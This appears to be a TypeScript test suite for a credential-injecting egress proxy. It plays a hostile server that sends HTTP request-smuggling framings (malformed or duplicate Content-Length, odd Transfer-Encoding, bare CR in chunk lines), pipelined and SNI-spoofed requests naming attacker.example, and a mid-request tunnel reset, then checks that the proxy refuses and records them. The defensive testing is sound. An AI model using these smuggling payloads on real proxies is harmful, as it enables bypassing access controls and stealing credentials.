// A hostile server against its own egress proxy, through a real gateway, while one of its calls
// is granted and in flight (the release window open): it writes raw bytes into tunnels to a
// declared host, trying (1) framings that the proxy and an upstream could read differently, so
// that bytes the proxy passes as one request's body reach the upstream as a request of its own
// (never read by the proxy: no Host checked, no record; and its body could swallow the next
// request, credential and all), and (2) to have a request that carried the credential go
// unrecorded, by resetting its tunnel the moment the request went out. The upstream is a plain
// TCP server that records every byte it gets, so what a lenient HTTP server would have read from
// them is seen whole.
import { writeFileSync } from "node:fs";
import { connect } from "node:net";
import { join } from "node:path";
import { connect as tlsConnect } from "node:tls";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { tempDir, waitFor } from "../helpers/files.js";
import { runCli } from "../helpers/gateway.js";
import { newStateDir, passphraseEnv } from "../helpers/state.js";
import {
  approvedCall,
  egressKit,
  exchange,
  type Gw,
  nodeServer,
  PLACEHOLDER,
  proxyPort,
  type RawUpstream,
  rawUpstream,
  released,
  SECRET,
} from "./egress-kit.js";

const k = egressKit();

let stateDir: string;
let gw: Gw;
let port: number;
let framing: RawUpstream;
let held: RawUpstream;
let endCall: () => Promise<void>;
let tlsPort: number;
let tlsReceived: { path: string; authorization: string | undefined }[];
/** another server's HTTP-delivered secret, stored for the same host */
const OTHER_VALUE = "billing-test-value-0c4e9a17";

beforeAll(async () => {
  const { plain, tls, hosts } = await k.upstreams();
  tlsPort = tls.port;
  tlsReceived = tls.received;
  framing = await rawUpstream(false);
  held = await rawUpstream(true);
  k.cleanup.push(
    () => framing.close(),
    () => held.close(),
  );
  const declared = [...hosts, `127.0.0.1:${framing.port}`, `127.0.0.1:${held.port}`];
  stateDir = newStateDir();
  const dir = k.project(nodeServer, declared);
  await k.storeHttpSecret(stateDir, ...declared);
  const other = await runCli(
    ["vault", "set", "billing-api", "--from-stdin", "--host", `127.0.0.1:${framing.port}`],
    { stateDir, env: passphraseEnv(), input: OTHER_VALUE },
  );
  expect(other.code, other.stderr).toBe(0);
  await k.unlock(stateDir);
  gw = await k.gateway(dir, stateDir, { NODE_EXTRA_CA_CERTS: tls.caFile });
  port = await proxyPort(gw);
  // a call that stays in flight until the test says: its first fetch got the value, so the
  // window is open for whatever this process (the server, as far as the proxy can tell) sends
  const done = join(tempDir("portcullis-smuggling-"), "done");
  const call = approvedCall(gw, stateDir, "fetch_url", { url: `${plain.url}/open`, after: done }, new Set());
  await waitFor(() => released(plain).length > 0, 20_000, "the call's first request released");
  endCall = async () => {
    writeFileSync(done, "");
    await call;
  };
}, 60_000);

afterAll(async () => {
  await endCall?.();
  await k.cleanupAll();
});

/** CONNECT to `target`, then `bytes` in one write; what the proxy answered, until it closes (or 3 s). */
const tunnel = (target: number, bytes: string) =>
  exchange(port, `CONNECT 127.0.0.1:${target} HTTP/1.1\r\nHost: 127.0.0.1:${target}\r\n\r\n`, bytes, 3000);

describe("request framings the proxy and an upstream could read differently", () => {
  it("are refused with a 400 before anything reaches the upstream", async () => {
    const host = `Host: 127.0.0.1:${framing.port}\r\nAuthorization: Bearer ${PLACEHOLDER}\r\n`;
    // what would follow as a request of its own, to another site, for an upstream that reads
    // the first request's body as ending earlier than the proxy does
    const smuggled = "GET /smuggled HTTP/1.1\r\nHost: attacker.example\r\nContent-Length: 300\r\n\r\n";
    const cases: [string, string, string][] = [
      // HTTP/1.0 has no chunked coding: a server may read no body at all (RFC 9112 §6.1)
      [
        "a Transfer-Encoding in an HTTP/1.0 request",
        `POST /smuggle-1 HTTP/1.0\r\n${host}Transfer-Encoding: chunked\r\n\r\n`,
        `${smuggled.length.toString(16)}\r\n${smuggled}\r\n0\r\n\r\n`,
      ],
      // read as 0 by the proxy, refused or read otherwise by others
      ["a malformed Content-Length", `POST /smuggle-2 HTTP/1.1\r\n${host}Content-Length: \r\n\r\n`, smuggled],
      // read as 5 by the proxy; a list is not a length to many servers
      [
        "a malformed Content-Length",
        `POST /smuggle-3 HTTP/1.1\r\n${host}Content-Length: 5, 5\r\n\r\n`,
        `hello${smuggled}`,
      ],
      [
        "a malformed Content-Length",
        `POST /smuggle-4 HTTP/1.1\r\n${host}Content-Length: ,5\r\n\r\n`,
        "hello",
      ],
      // 10 to the proxy, octal 8 to a parser that lets strtol pick the base
      [
        "a malformed Content-Length",
        `POST /smuggle-4b HTTP/1.1\r\n${host}Content-Length: 010\r\n\r\n`,
        "hellohello",
      ],
      [
        "more than one Content-Length",
        `POST /smuggle-5 HTTP/1.1\r\n${host}Content-Length: 5\r\nContent-Length: 5\r\n\r\n`,
        "hello",
      ],
      [
        "an empty element in Transfer-Encoding",
        `POST /smuggle-6 HTTP/1.1\r\n${host}Transfer-Encoding: ,chunked\r\n\r\n`,
        "0\r\n\r\n",
      ],
    ];
    for (const [why, head, body] of cases) {
      const out = await tunnel(framing.port, head + body);
      expect(out.split("\r\n\r\n")[1]?.split("\r\n")[0], why).toMatch(/^HTTP\/1\.1 400 /);
      expect(out, why).toContain(why);
    }
    // a bare CR in a chunk line: a line's end to some parsers, not to the proxy
    const chunk = "5;x\r\r\nhello\r\n0\r\n\r\n";
    const out = await tunnel(
      framing.port,
      `POST /smuggle-7 HTTP/1.1\r\n${host}Transfer-Encoding: chunked\r\n\r\n${chunk}`,
    );
    expect(out).toContain("a control character in a chunk line");
    expect(framing.text()).not.toContain("/smuggle");
    // the same tunnel still carries a well-formed request, with the value
    const fine = await tunnel(
      framing.port,
      `POST /fine HTTP/1.1\r\n${host}Connection: close\r\nContent-Length: 5\r\n\r\nhello`,
    );
    expect(fine.split("\r\n\r\n")[1]?.split("\r\n")[0]).toMatch(/^HTTP\/1\.1 200 /);
    expect(framing.text().includes(`POST /fine HTTP/1.1`)).toBe(true);
    expect(framing.text().includes(`Bearer ${SECRET}`)).toBe(true);
  });
});

describe("a tunnel reset as its request goes out", () => {
  it("still has the request recorded: egress --json shows the destination and the release", async () => {
    const s = connect(port, "127.0.0.1");
    s.on("error", () => {});
    s.write(`CONNECT 127.0.0.1:${held.port} HTTP/1.1\r\nHost: 127.0.0.1:${held.port}\r\n\r\n`);
    await new Promise((r) => s.once("data", r));
    s.write(
      `GET /held HTTP/1.1\r\nHost: 127.0.0.1:${held.port}\r\nAuthorization: Bearer ${PLACEHOLDER}\r\n\r\n`,
    );
    await waitFor(() => held.text().includes("GET /held"), 10_000, "the request at the upstream");
    // the value went out with it (said as a yes or no, never printed)
    expect(held.text().includes(`Bearer ${SECRET}`)).toBe(true);
    s.resetAndDestroy();
    const shown = await waitFor(
      async () => {
        const r = await runCli(["egress", "api", "--json"], { stateDir });
        expect(r.code, r.stderr).toBe(0);
        const all = (
          JSON.parse(r.stdout) as {
            epochs: { destinations: { port: number; released: number; requests: number }[] }[];
          }
        ).epochs.flatMap((e) => e.destinations);
        return all.find((d) => d.port === held.port) ?? null;
      },
      10_000,
      "the reset tunnel's request in the egress record",
    );
    expect(shown).toMatchObject({ requests: 1, released: 1 });
  });
});

describe("other ways into another host or another credential, in a tunnel during the call", () => {
  it("a second pipelined request naming another host gets a 421; another server's placeholder stays one; SNI names nothing", async () => {
    const host = `Host: 127.0.0.1:${framing.port}\r\n`;
    const auth = `Authorization: Bearer ${PLACEHOLDER}\r\n`;
    // two requests in one write: the first named its destination, the second names another host
    const out = await tunnel(
      framing.port,
      `GET /pipelined-1 HTTP/1.1\r\n${host}${auth}\r\nGET http://attacker.example/pipelined-2 HTTP/1.1\r\n${host}${auth}\r\n`,
    );
    expect(out.match(/HTTP\/1\.1 \d{3}/g)).toEqual(["HTTP/1.1 200", "HTTP/1.1 200", "HTTP/1.1 421"]);
    expect(framing.text()).toContain("GET /pipelined-1 ");
    expect(framing.text()).not.toContain("pipelined-2");
    // a secret the vault holds for this very host, but that this server's configuration does not
    // name (another server's): its placeholder goes out as it is
    await tunnel(
      framing.port,
      `GET /other-scope HTTP/1.1\r\n${host}Authorization: Bearer portcullis-placeholder:billing-api\r\nConnection: close\r\n\r\n`,
    );
    expect(framing.text()).toContain("Authorization: Bearer portcullis-placeholder:billing-api");
    expect(framing.text().includes(OTHER_VALUE)).toBe(false);
    // SNI is not read: the leaf is for the CONNECT target, and the request goes to it, to be
    // judged by its Host as any other
    const sni = async (hostHeader: string) => {
      const s = connect(port, "127.0.0.1");
      s.write(`CONNECT 127.0.0.1:${tlsPort} HTTP/1.1\r\nHost: 127.0.0.1:${tlsPort}\r\n\r\n`);
      await new Promise((r) => s.once("data", r));
      // (the attacker trusts whatever it is shown: it is the proxy's routing under test)
      const t = tlsConnect({ socket: s, servername: "attacker.example", rejectUnauthorized: false });
      await new Promise((r) => t.once("secureConnect", r));
      let text = "";
      t.on("data", (d: Buffer) => {
        text += d.toString("latin1");
      });
      t.write(`GET /sni HTTP/1.1\r\nHost: ${hostHeader}\r\n${auth}Connection: close\r\n\r\n`);
      await new Promise((r) => t.on("close", r));
      return text.split("\r\n")[0];
    };
    expect(await sni(`127.0.0.1:${tlsPort}`)).toMatch(/^HTTP\/1\.1 200 /);
    expect(await sni("attacker.example")).toMatch(/^HTTP\/1\.1 421 /);
    expect(
      tlsReceived.filter((r) => r.path === "/sni").map((r) => r.authorization === `Bearer ${SECRET}`),
    ).toEqual([true]);
  });
});
